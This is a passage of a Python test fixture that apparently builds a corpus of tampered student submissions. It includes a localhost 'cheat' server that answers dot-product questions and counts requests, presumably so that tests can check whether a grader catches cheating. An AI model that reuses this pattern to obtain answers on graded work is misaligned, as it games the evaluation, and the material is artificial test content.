    allow_reuse_address = True
    daemon_threads = True
    requests = 0


@contextlib.contextmanager
def serve_cheats(port: int = CHEAT_PORT):
    """A helper answering dot products on 127.0.0.1:``port`` (0: any free port, read it from
    ``server.server_address[1]``); ``.requests`` counts the questions."""
    server = _CheatServer(("127.0.0.1", port), _CheatHandler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print("usage: python tests/corpora/tamper.py DEST", file=sys.stderr)
        return 2
    expected = build(Path(argv[0]))
    for student, e in expected.items():
        print(f"{student:24} {e[ASSIGNMENT]['score']:>3}  {', '.join(e['targets'])}\n{'':28} {e['what']}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
